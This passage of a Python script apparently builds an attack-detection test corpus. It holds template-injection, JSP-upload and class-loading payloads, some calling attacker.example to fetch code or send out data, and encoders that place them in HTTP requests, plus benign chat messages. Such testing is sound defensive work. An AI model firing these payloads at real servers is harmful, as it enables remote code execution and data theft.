    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
]

_JSP = '<%@ page import="java.io.*" %><% out.println("ok"); %>'
JSP_UPLOAD: list[Entry] = [
    "shell.jsp",
    "cmd.JSP",
    "index.jspx",
    "header.jspf",
    "upload.jsw",
    "upload.jsv",
    "page.jtml",
    "shell.jsp%00.png",
    "shell.jsp;.png",
    "shell.jsp.",
    P("shell.jsp::$DATA", "multipart-filename-star", "rs-multipart-filename"),
    P("shell.jsp/", "put-path", "rs-put-path"),
    "avatar.png.jsp",
    P("../../webapps/ROOT/cmd.jsp", "multipart-filename", "rs-multipart-filename"),
]

# ----------------------------------------------------------------------------------------------------------- SSTI

JINJA2: list[Entry] = [
    "{{7*7}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')}}",
    "{{request['__cl'+'ass__'].__mro__}}",
    "{%print(url_for.__globals__.os.environ)%}",
    "%7B%7Bconfig.__class__.__init__.__globals__%5B'os'%5D.popen('id').read()%7D%7D",
    P("{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}", "json-u", "rs-json-u"),
]

TWIG: list[Entry] = [
    "{{7*'7'}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{app.request.server.all|join(',')}}",
    "{{['id',\"\"]|sort('system')}}",
    "{{[0]|reduce('system','id')}}",
    "{{\"/etc/passwd\"|file_excerpt(1,30)}}",
    "{% set cmd = ['whoami']|filter('shell_exec') %}{{ cmd|join }}",
    "{{_self.env.setCache(\"ftp://attacker.example:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
    "{{ ['id'] | filter ( 'system' ) }}",
    "&#123;&#123;['id']|filter('system')&#125;&#125;",
]

FREEMARKER: list[Entry] = [
    "${7*7}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>"
    "${ob(\"java.lang.ProcessBuilder\",\"id\").start()}",
    "<#assign jt=\"freemarker.template.utility.JythonRuntime\"?new()><@jt>import os;os.system(\"id\")</@jt>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#list .data_model?keys as k>${k}</#list>",
    "${object.class.classLoader}",
    "${\"x\"?api.getClass().getProtectionDomain()}",
    "<#assign  ex = \"freemarker.template.utility.Execute\"?new( ) >${ ex( \"whoami\" ) }",
    "%3C%23assign%20ex%3D%22freemarker.template.utility.Execute%22%3Fnew()%3E%24%7Bex(%22id%22)%7D",
]

VELOCITY: list[Entry] = [
    "#set($x=7*7)$x",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()",
    "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()",
    "#set($str=$class.inspect(\"java.lang.String\").type)#set($chr=$class.inspect(\"java.lang.Character\").type)",
    "$request.getClass().getClassLoader()",
    "#evaluate(\"#set($a=$x.class.forName('java.lang.System'))$a.getenv()\")",
    "#include(\"/etc/passwd\")",
    "#parse(\"../../../../etc/passwd\")",
    "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
    "${request.getSession().getServletContext()}",
    "#set( $x = \"\" )${x.getClass().forName( \"java.lang.Runtime\" )}",
]

THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "[[${7*7}]]",
    "[(${T(java.lang.Runtime).getRuntime().exec('id')})]",
    "th:text=\"${T(java.lang.System).getenv()}\"",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "__|$${#response.addHeader(\"X-Pwn\",\"1\")}|__::.x",
    "~{::${7*7}}",
    "__${T(java.lang.Thread).sleep(10000)}__",
    "${#ctx.getVariable('springRequestContext')}",
    "%5F%5F%24%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D%5F%5F%3A%3A.x",
    "__${T (java.lang.Runtime).getRuntime().exec('whoami')}__::.x",
]

ERB: list[Entry] = [
    "<%= 7 * 7 %>",
    "<%= system('id') %>",
    "<%= `id` %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= ENV.inspect %>",
    "<%= require 'open3'; Open3.capture2('id') %>",
    "<%= %x(id) %>",
    "<%= Process.spawn('id') %>",
    "<%=self.class.ancestors%>",
    "&lt;%= system(&quot;id&quot;) %&gt;",
]

SMARTY: list[Entry] = [
    "{$smarty.version}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
    "self::clearConfig())}",
    "{if phpinfo()}{/if}",
    "{if system('cat /etc/passwd')}{/if}",
    "{math equation=\"7*7\"}",
    "{fetch file=\"/etc/passwd\"}",
    "{include file=\"file:/etc/passwd\"}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{'id'|passthru}",
    "{$smarty.template_object->smarty->_getSmartyObj()->display('string:{system(\"id\")}')}",
]

HANDLEBARS: list[Entry] = [
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
    "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
    "{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
    "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}"
    "{{/with}}{{/with}}",
    "{{this.constructor.constructor \"return process\"}}",
    "{{lookup this \"constructor\"}}",
    "{{#each this}}{{@key}}={{this}} {{/each}}",
    "{{#with (lookup this \"__proto__\")}}{{this.__defineGetter__}}{{/with}}",
    "{{#with this as |obj|}}{{#with (obj.constructor.getOwnPropertyDescriptor obj.__proto__ \"__defineGetter__\")"
    "}}{{/with}}{{/with}}",
    "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}",
    "{{lookup (lookup this \"constructor\") \"constructor\"}}",
    "{{#each (lookup this \"process\")}}{{/each}}",
    "{{#with \"constructor\"}}{{#with (lookup ../this this)}}{{this \"return process.env\"}}{{/with}}{{/with}}",
    P("{{this.constructor.constructor \"return process.mainModule\"}}", "json-u", "rs-json-u"),
]

PUG: list[Entry] = [
    "#{7*7}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
    ".exec('id')}()}",
    "- var x = global.process.mainModule.require('child_process').execSync('id').toString()",
    "= global.process.mainModule.require('child_process').execSync('cat /etc/passwd')",
    "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    "-var a = require('fs').readFileSync('/etc/passwd')",
    "p= process.env",
    "!{7*7}",
    "#[p #{global.process.version}]",
    "- global.process.mainModule.require('child_process').exec('curl http://attacker.example/'+process.env.HOME)",
    "#{ global . process . mainModule . require ( 'child_process' ) . execSync ( 'id' ) }",
    "%23%7Bglobal.process.mainModule.require('child_process').execSync('id')%7D",
]

EJS: list[Entry] = [
    "<%= 7*7 %>",
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "<%- include('/etc/passwd') %>",
    "<% process.mainModule.require('child_process').exec('id') %>",
    "<%= this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd') %>",
    "<%= require('fs').readdirSync('.') %>",
    P("settings[view%20options][outputFunctionName]=x;process.mainModule.require('child_process')"
      ".execSync('id');s", "query-string", "rs-query-string"),
    P("settings[view+options][escapeFunction]=1;return global.process.mainModule.constructor._load"
      "('child_process').execSync('id');&settings[view+options][client]=true", "form-string", "rs-form-string"),
    "<%= process.env %>",
    "<%-global.process.mainModule.require('child_process').execSync('whoami')%>",
    "&lt;%= global.process.mainModule.require(&#39;child_process&#39;).execSync(&#39;id&#39;) %&gt;",
]

MAKO: list[Entry] = [
    "${7*7}<%doc>mako</%doc>",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${self.module.cache.util.os.system('id')}",
    "${self.template.module.runtime.util.os.popen('id').read()}",
    "<%! import os %>${os.system('id')}",
    "${__import__('os').popen('id').read()}",
    "<%include file=\"/etc/passwd\"/>",
    "${self.attr._NSAttr__parent.module.cache.util.os.system(\"id\")}",
    "${''.__class__.__mro__[1].__subclasses__()}",
    "<%namespace name=\"x\" module=\"os\"/>${x.system('id')}",
    "${context.keys()}<%def name=\"x()\"></%def>",
]

RAZOR: list[Entry] = [
    "@(7*7)",
    "@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
    "@(System.Environment.MachineName)",
    "@System.Diagnostics.Process.Start(\"powershell\",\"-c iwr http://attacker.example/a.ps1|iex\")",
    "@{ var f = System.IO.Directory.GetFiles(\"C:\\\\inetpub\\\\wwwroot\"); }",
    "@(new System.Net.WebClient().DownloadString(\"http://attacker.example/x\"))",
    "@Environment.GetEnvironmentVariable(\"PATH\")",
    "@System.AppDomain.CurrentDomain.BaseDirectory",
    "@{ System.IO.File.WriteAllText(\"C:\\\\inetpub\\\\wwwroot\\\\x.aspx\", \"<%@ Page %>\"); }",
    "@( System . Diagnostics . Process . Start ( \"calc\" ) )",
]

# ------------------------------------------------------------------------------------------------ placements

OURS_DEFAULT = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
                "param-name", "xml", "multipart-field", "multipart-filename", "path"]
OURS_URLS = ["query", "form", "json", "header:Referer", "xml", "multipart-field", "cookie", "header:X-Api-Version",
             "path", "header:User-Agent"]
OURS_BINARY = ["query", "form", "param-name", "path", "cookie"]
OURS_XML = ["xml-doc", "form", "json", "multipart-field", "query", "xml"]
OURS_UPLOAD = ["multipart-filename", "multipart-filename", "multipart-filename-star"]
RS_DEFAULT = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
              "rs-header:X-Custom-Header", "rs-cookie"]
RS_BINARY = ["rs-query", "rs-form", "rs-raw-body", "rs-cookie"]
RS_XML = ["rs-xml-doc", "rs-form", "rs-raw-body", "rs-json", "rs-query"]
RS_UPLOAD = ["rs-multipart-filename"]

# (sub-family, category, entries, rotation at our routes, rotation of the regression-suite style)
SUBS: list[tuple[str, str, list[Entry], list[str], list[str]]] = [
    ("nodejs-injection", "generic", NODEJS_1, OURS_DEFAULT, RS_DEFAULT),
    ("nodejs-injection-2", "generic", NODEJS_2, OURS_DEFAULT, RS_DEFAULT),
    ("ssrf-cloud-metadata", "generic", SSRF_METADATA, OURS_URLS, RS_DEFAULT),
    ("ssrf-url-ip-address", "generic", SSRF_IP, OURS_URLS, RS_DEFAULT),
    ("prototype-pollution", "generic", PROTO, OURS_DEFAULT, RS_DEFAULT),
    ("ruby-injection", "generic", RUBY, OURS_DEFAULT, RS_DEFAULT),
    ("perl-injection", "generic", PERL, OURS_DEFAULT, RS_DEFAULT),
    ("nodejs-dos", "generic", NODE_DOS, OURS_DEFAULT, RS_DEFAULT),
    ("php-data-scheme", "generic", PHP_DATA, OURS_URLS, RS_DEFAULT),
    ("java-rce-suspicious-class", "java", JAVA_RCE_CLASS, OURS_DEFAULT, RS_DEFAULT),
    ("java-process-spawn", "java", JAVA_SPAWN, OURS_XML, RS_XML),
    ("java-serialization-rce", "java", JAVA_SER_RCE, OURS_XML, RS_XML),
    ("java-suspicious-class", "java", JAVA_SUSPICIOUS_CLASS, OURS_DEFAULT, RS_DEFAULT),
    ("java-magic-bytes", "java", MAGIC, OURS_BINARY, RS_BINARY),
    ("java-magic-bytes-base64", "java", MAGIC_B64, OURS_DEFAULT, RS_DEFAULT),
    ("java-serialization-keyword", "java", JAVA_SER_KEYWORD, OURS_DEFAULT, RS_DEFAULT),
    ("java-suspicious-method", "java", JAVA_METHOD, OURS_DEFAULT, RS_DEFAULT),
    ("log4shell", "java", LOG4SHELL, OURS_DEFAULT, RS_DEFAULT),
    ("java-class-loading", "java", CLASS_LOADING, OURS_DEFAULT, RS_DEFAULT),
    ("java-script-upload", "java", JSP_UPLOAD, OURS_UPLOAD, RS_UPLOAD),
    ("ssti-jinja2", "ssti", JINJA2, OURS_DEFAULT, RS_DEFAULT),
    ("ssti-twig", "ssti", TWIG, OURS_DEFAULT, RS_DEFAULT),
    ("ssti-freemarker", "ssti", FREEMARKER, OURS_DEFAULT, RS_DEFAULT),
    ("ssti-velocity", "ssti", VELOCITY, OURS_DEFAULT, RS_DEFAULT),
    ("ssti-thymeleaf", "ssti", THYMELEAF, OURS_DEFAULT, RS_DEFAULT),
    ("ssti-erb", "ssti", ERB, OURS_DEFAULT, RS_DEFAULT),
    ("ssti-smarty", "ssti", SMARTY, OURS_DEFAULT, RS_DEFAULT),
    ("ssti-handlebars", "ssti", HANDLEBARS, OURS_DEFAULT, RS_DEFAULT),
    ("ssti-pug", "ssti", PUG, OURS_DEFAULT, RS_DEFAULT),
    ("ssti-ejs", "ssti", EJS, OURS_DEFAULT, RS_DEFAULT),
    ("ssti-mako", "ssti", MAKO, OURS_DEFAULT, RS_DEFAULT),
    ("ssti-razor", "ssti", RAZOR, OURS_DEFAULT, RS_DEFAULT),
]

OURS_PARAMS = ["q", "name", "template", "url", "callback", "filter", "data", "redirect", "message", "lang", "file"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
COOKIE_NAMES = ["prefs", "profile", "session_data", "lang", "viewstate"]
BOUNDARY = "----WebKitFormBoundarySixtyThird7xQ"
RS_UA = "Mozilla/5.0 (compatible; regression-suite/1.0)"
# printable ASCII a browser or client leaves as is in a cookie value
COOKIE_SAFE = "".join(chr(c) for c in range(0x21, 0x7F) if chr(c) not in '";,\\')
# what a regression suite leaves raw in a query string
RS_URI_SAFE = "/:$()'*,!@;._-~"
JSON_U = set("${}()<>_.:'\"/\\[]")


def _bytes(value: str, binary: bool) -> bytes:
    return value.encode("latin-1" if binary else "utf-8")


def _pct(value: str, binary: bool, safe: str = "") -> str:
    return urllib.parse.quote(_bytes(value, binary), safe=safe)


def _header_value(value: str) -> str:
    """A header value as a client can send it: line breaks folded to spaces, other controls and non-ASCII
    percent-encoded."""
    value = value.replace("\r\n", " ").replace("\n", " ").replace("\r", " ")
    return "".join(c if " " <= c < "\x7f" or c == "\t" else urllib.parse.quote(c) for c in value)


def _json_u(value: str) -> str:
    """`value` as a JSON string literal's inside with its punctuation (and controls) as \\u escapes."""
    return "".join(f"\\u{ord(c):04x}" if c in JSON_U or c < " " else c for c in value)


def _multipart(fields: list[tuple[str, str]], filename: str | None, content: str,
               star: bool = False) -> tuple[str, str]:
    parts = []
    for k, v in fields:
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n")
    if filename is not None:
        fn = filename.replace("\"", "%22").replace("\r", " ").replace("\n", " ")
        disp = f"filename*=UTF-8''{urllib.parse.quote(fn, safe='')}" if star else f"filename=\"{fn}\""
        ctype = "application/octet-stream"
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; {disp}\r\n"
                     f"Content-Type: {ctype}\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n", f"multipart/form-data; boundary={BOUNDARY}"


def _req(method: str, uri: str, body: str = "", ctype: str | None = None,
         extra: dict[str, str] | None = None, ua: str = UA) -> dict[str, Any]:
    headers = {"User-Agent": ua, "Accept": "*/*"}
    if ctype:
        headers["Content-Type"] = ctype
    headers.update(extra or {})
    return {"method": method, "uri": uri, "body": body, "headers": headers}


def ours(place: str, value: str, k: int, binary: bool, sub: str) -> dict[str, Any]:
    """`value` at our routes, at `place`; k rotates parameter and cookie names."""
    name = OURS_PARAMS[k % len(OURS_PARAMS)]
    if place == "query":
        return _req("GET", f"/api/users?{name}={_pct(value, binary)}&page=1")
    if place == "form":
        body = f"csrf_token=t0k3n&{name}={urllib.parse.quote_plus(_bytes(value, binary))}"
        return _req("POST", "/admin/users/search", body, "application/x-www-form-urlencoded")
    if place == "form-string":
        return _req("POST", "/admin/users/search", "csrf_token=t0k3n&" + value, "application/x-www-form-urlencoded")
    if place == "query-string":
        return _req("GET", "/api/users?page=1&" + value)
    if place == "param-name":
        return _req("GET", f"/api/users?{_pct(value, binary)}=1&page=1")
    if place == "path":
        return _req("GET", "/api/users/" + _pct(value, binary))
    if place == "json":
        return _req("POST", "/api/users", json.dumps({"email": "a@example.org", name: value}, ensure_ascii=False),
                    "application/json")
    if place == "json-u":
        return _req("POST", "/api/users", f'{{"email":"a@example.org","{name}":"{_json_u(value)}"}}',
                    "application/json")
    if place == "json-doc":
        return _req("POST", "/api/users", value, "application/json")
    if place == "xml":
        body = f'<?xml version="1.0" encoding="UTF-8"?><user><email>a@example.org</email><{name}>' \
               f"{xml_escape(value)}</{name}></user>"
        return _req("POST", "/api/users", body, "application/xml")
    if place == "xml-doc":
        return _req("POST", "/api/users", value, "application/xml")
    if place == "cookie":
        cookie = f"session=abc123; {COOKIE_NAMES[k % len(COOKIE_NAMES)]}={_pct(value, binary, COOKIE_SAFE)}"
        return _req("GET", "/api/users?page=1", extra={"Cookie": cookie})
    if place == "header:User-Agent":
        return _req("GET", "/api/users?page=1", ua=_header_value(value))
    if place == "header:Referer":
        return _req("GET", "/api/users?page=1", extra={"Referer": _header_value(value)})
    if place == "header:X-Api-Version":
        return _req("GET", "/api/users?page=1", extra={"X-Api-Version": _header_value(value)})
    if place == "header:Content-Type":
        return _req("POST", "/api/users", "{}", _header_value(value))
    if place in ("multipart-field", "multipart-filename", "multipart-filename-star"):
        fields = [("csrf_token", "t0k3n")]
        if place == "multipart-field":
            body, ctype = _multipart(fields + [("note", value)], None, "")
        else:
            content = _JSP if sub == "java-script-upload" else "id,name\n1,Ann\n"
            body, ctype = _multipart(fields, value, content, star=place.endswith("-star"))
        return _req("POST", "/admin/users/import", body, ctype)
    if place == "put-path":
        return _req("PUT", "/api/files/" + _pct(value, binary, "/;:."), _JSP, "application/octet-stream")
    raise ValueError(place)


def rs(place: str, value: str, k: int, binary: bool, sub: str) -> dict[str, Any]:
    """`value` the way a regression suite sends it: a path that is not our route, an arbitrary name."""
    path = RS_PATHS[k % len(RS_PATHS)]
    name = RS_PARAMS[k % len(RS_PARAMS)]
    form = "application/x-www-form-urlencoded"
    if place == "rs-query":
        return _req("GET", f"{path}?{name}={_pct(value, binary, RS_URI_SAFE)}", ua=RS_UA)
    if place == "rs-query-string":
        return _req("GET", f"{path}?{value}", ua=RS_UA)
    if place == "rs-form":
        return _req("POST", path, f"{name}={urllib.parse.quote_plus(_bytes(value, binary))}", form, ua=RS_UA)
    if place == "rs-form-string":
        return _req("POST", path, value, form, ua=RS_UA)
    if place == "rs-raw-body":
        return _req("POST", path, _pct(value, True) if binary else value, form, ua=RS_UA)
    if place == "rs-json":
        return _req("POST", path, json.dumps({name: value}, ensure_ascii=False), "application/json", ua=RS_UA)
    if place == "rs-json-u":
        return _req("POST", path, f'{{"{name}":"{_json_u(value)}"}}', "application/json", ua=RS_UA)
    if place == "rs-json-doc":
        return _req("POST", path, value, "application/json", ua=RS_UA)
    if place == "rs-xml":
        body = f'<?xml version="1.0"?><root><{name}>{xml_escape(value)}</{name}></root>'
        return _req("POST", path, body, "text/xml", ua=RS_UA)
    if place == "rs-xml-doc":
        return _req("POST", path, value, "text/xml", ua=RS_UA)
    if place == "rs-header:User-Agent":
        return _req("GET", path, ua=_header_value(value))
    if place == "rs-header:Referer":
        return _req("GET", path, extra={"Referer": _header_value(value)}, ua=RS_UA)
    if place == "rs-header:X-Custom-Header":
        return _req("GET", path, extra={"X-Custom-Header": _header_value(value)}, ua=RS_UA)
    if place == "rs-header:Content-Type":
        return _req("POST", path, "x=1", _header_value(value), ua=RS_UA)
    if place == "rs-cookie":
        return _req("GET", path, extra={"Cookie": f"{name}={_pct(value, binary, COOKIE_SAFE)}"}, ua=RS_UA)
    if place == "rs-multipart-filename":
        body, ctype = _multipart([], value, _JSP if sub == "java-script-upload" else "test")
        return _req("POST", path, body, ctype, ua=RS_UA)
    if place == "rs-put-path":
        return _req("PUT", "/" + _pct(value, binary, "/;:."), _JSP, "application/octet-stream", ua=RS_UA)
    raise ValueError(place)


def _fit(place: str, payload: str) -> str:
    """A rotation's raw-document place falls back to the wrapped one for a payload that is not a document."""
    if place.endswith("xml-doc") and not payload.startswith("<"):
        return place.replace("xml-doc", "xml")
    return place


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for sub, category, entries, ours_rot, rs_rot in SUBS:
        for i, entry in enumerate(entries):
            e = entry if isinstance(entry, P) else P(entry)
            o_place = e.ours or _fit(ours_rot[i % len(ours_rot)], e.payload)
            r_place = e.rs or _fit(rs_rot[(i + len(sub)) % len(rs_rot)], e.payload)
            shown = _json_u(e.payload) if o_place == "json-u" else e.payload
            n += 1
            yield {**ours(o_place, e.payload, n, e.binary, sub), "id": f"{NAME}-{category}-{n:04d}",
                   "category": category, "sub": sub, "placement": o_place, "payload": shown}
            shown = _json_u(e.payload) if r_place == "rs-json-u" else e.payload
            n += 1
            yield {**rs(r_place, e.payload, n, e.binary, sub), "id": f"{NAME}-{category}-{n:04d}",
                   "category": category, "sub": sub, "placement": r_place, "payload": shown}


# ----------------------------------------------------------------------------------------------------- benign

SLACK_TEXTS = [
    "we finally replaced the child_process calls in the build script with execa, way less quoting pain",
    "does anyone remember why the exporter spawns a child process instead of using a worker thread?",
    "require order matters here: load dotenv before you require the config module",
    "process.env.PORT is undefined on the new box, did someone forget the .env file?",
    "the eval step in the notebook takes 40 minutes, we should cache the embeddings",
    "new Function in the old dashboard is gone, the CSP is strict now",
    "heads up: String.fromCharCode shows up in the minified bundle, it's the emoji polyfill, not malware",
    "module.exports vs export default is the whole reason the jest config broke",
    "the constructor of that class does way too much, can we move the fetch out of it?",
    "prototype chain lookups are slow in that hot loop, cache the method reference",
    "never set __proto__ directly, use Object.create(null) for dictionaries",
    "we ship a DoS guard: requests with more than 1000 keys are rejected before parsing",
    "while(true) with a break inside is fine, it's the one without a break that hung the worker",
    "the for(;;) polling loop in the agent now sleeps 5 seconds between rounds",
    "Ruby 3.3 upgrade is done, the Rails app boots 20% faster",
    "Kernel#system with an array avoids the shell, please use that form in the deploy rake tasks",
    "IO.popen is what the old importer used, the new one calls the API directly",
    "the Perl CGI scripts on the intranet are finally retired, RIP 2003-2024",
    "qx in perl is just backticks, I had to look it up too",
    "use strict; use warnings; at the top of every perl script, no exceptions",
    "data: URLs for the tiny icons keep the email template self contained",
    "the avatar upload comes in as a data:image/png;base64 string from the mobile app",
    "our pods couldn't reach the instance metadata endpoint after the IMDSv2 switch, fixed with the hop limit",
    "the metadata service on GCP needs the Metadata-Flavor header, that's why curl returned 403",
    "staging API is on 10.0.12.5 inside the VPC, use the bastion",
    "the printer's IP is 192.168.1.40 if anyone needs to add it manually",
    "localhost:8080 is the API, 3000 the frontend, 5432 postgres",
    "Runtime.getRuntime().availableProcessors() returns the container quota on Java 17, good to know",
    "ProcessBuilder with inheritIO is the cleanest way to run ffmpeg from the converter",
    "the class loader leak after redeploys is gone since we moved the JDBC driver to tomcat/lib",
    "Java serialization is off in the cache, we use JSON with Jackson and no default typing",
    "ObjectInputStream in the legacy RMI client has a filter now, jdk.serialFilter set in the launcher",
    "base64 blobs starting with rO0 are Java serialized objects, fun fact from the security training",
    "log4j is 2.23 everywhere, the jndi lookup class is not even in the jar anymore",
    "the ${DB_HOST} placeholder in application.yml comes from the helm values",
    "Spring's @Value(\"${app.timeout:30}\") gives a default of 30 seconds",
    "commons-collections 3.2.2 is the minimum, dependabot bumped it this morning",
    "XMLDecoder is only used by the ancient settings importer, ticket to remove it is in the backlog",
    "System.getProperty(\"user.home\") returns / in the container, hence the weird cache path",
    "FileWriter without an explicit charset bit us again on the Windows build agent",
    "the jsp pages of the old admin are being rewritten in React",
    "Tomcat 10 moved everything to jakarta.*, half of our imports broke",
    "reflection via getDeclaredMethod and setAccessible is what the test helper uses, it's test-only",
    "Class.forName for the JDBC driver is not needed since JDBC 4",
    "the Jinja template for the invoice email uses {{ customer.name }} and {{ total }}",
    "in Twig you write {{ user.email|lower }} to lowercase it",
    "the Freemarker template prints ${order.id}, make sure the model has it",
    "Velocity macros like #foreach($item in $items) still power the PDF reports",
    "Thymeleaf: th:text=\"${user.name}\" escapes by default, th:utext does not",
    "the ERB partial uses <%= render 'header' %> like every other view",
    "Smarty templates in the shop use {$product.price}, the designers love it",
    "Handlebars helper {{#each items}}{{name}}{{/each}} renders the list",
    "pug indentation broke the layout, one extra space before p= title",
    "EJS views need <%- include('partials/nav') %> for the shared navigation",
    "Mako was our templating choice for the Pyramid app years ago",
    "Razor syntax @Model.Name in the ASP.NET views, @{ } for code blocks",
    "jinja autoescape is on for html templates, off for the plain-text emails",
    "the template preview shows {{7}} items in cart for the demo user",
    "the SSRF review of the webhook fetcher is done: private ranges are blocked",
    "the URL preview bot now refuses to fetch anything that resolves to an internal address",
    "gopher is the Go team mascot, please stop posting it in #security",
    "the metadata of the photos contains GPS, strip it before upload",
    "the prototype of the new onboarding flow is in Figma",
    "Constructor Group are the builders for the new office",
    "we're processing the backlog, ETA Friday",
    "the spawn point in the game demo is off by one tile",
    "the runtime of the nightly job went from 2h to 40 minutes",
    "I dropped a file called notes.jsp.txt in the drive, it's just text about JSP tags",
    "the upload form accepts pdf, png and jpg, nothing else",
    "the eval harness for the ranking model uses 5 folds",
    "Node 22 ships require(esm), we can drop the dynamic import hack",
    "import('node:fs/promises') works in the ESM build only",
    "fs.readFileSync at startup is fine, not in the request path",
    "the setInterval that refreshes the token runs every 50 minutes",
    "we fork the worker per tenant, memory stays flat",
    "the vm module isn't a sandbox, the docs say so in bold",
    "Marshal.load on untrusted data is banned by rubocop now",
    "YAML.safe_load everywhere, the plain load is blocked by the linter",
    "ERB.new(template, trim_mode: '-') keeps the generated config clean",
    "open3 capture3 is how the rake task calls git now",
    "the perl one-liner perl -pi -e 's/foo/bar/' saved me an hour",
    "use POSIX qw(strftime); for the log timestamps",
    "the CGI param() in list context warning is fixed",
    "the Java agent's JMX port 9010 is only bound to localhost",
    "JNDI datasource config lives in context.xml on the old Tomcat",
    "InitialContext lookups for the datasource are still in the monolith",
    "Thread.sleep in tests is a smell, use awaitility",
    "MethodHandles are faster than reflection in the serializer",
    "the ScriptEngineManager returns null for nashorn on Java 17, it was removed",
    "groovy scripts in Jenkins run in the sandbox, approvals in the admin page",
    "JShell is great for trying the new string templates",
    "BeanShell is still in the old test framework, nobody dares to touch it",
    "URLClassLoader per plugin keeps the plugin jars isolated",
    "the Spring4Shell patch is applied, Boot 2.6.6 and up",
    "Fastjson is replaced by Jackson in the payment service",
    "the XStream allowlist only permits our DTO package",
    "JSF ViewState is encrypted on the server side, MAC checked",
    "the WebLogic servers are decommissioned next quarter",
    "Struts is gone from the last app, it's all Spring MVC now",
    "OGNL expressions in the old Struts config gave me nightmares",
    "the T3 protocol port is firewalled on every WebLogic box",
    "the hex dump starts with ACED 0005, that's Java serialization magic",
    "the ASP.NET app on IIS uses Razor pages for the partner portal",
    "C:\\inetpub\\wwwroot is where the IIS site lives on the old box",
    "System.Diagnostics.Process is used by the report exporter to call wkhtmltopdf",
    "the cloud metadata IP 169.254.169.254 is blocked by the egress policy, as it should be",
    "IPv6 localhost is ::1, the health check uses 127.0.0.1 though",
    "the decimal form of an IP address still confuses the log parser",
    "webhook URLs must be https and public, the validator checks that",
    "we allow avatar URLs from gravatar and our CDN only",
    "the redirect parameter is checked against the allowlist",
    "the SSTI talk showed how {{ }} in user input gets evaluated, we escape everything",
    "the marketing team wants {{first_name}} merge tags in the newsletter",
    "our Mailchimp template uses *|FNAME|* for the first name",
    "the Liquid template in Shopify prints {{ product.title }}",
    "the React component receives props.children, nothing fancy",
    "the data scheme for inline SVG avatars is data:image/svg+xml;utf8,...",
    "the base64 data: URL is 40 kB, too big for the email",
    "the Ruby gem open-uri is banned, use Net::HTTP with timeouts",
    "the perl script's open() now uses the three-argument form",
    "spawnSync blocks the event loop, use spawn in the server",
    "the crash was a stack overflow from infinite recursion in the JSON walker",
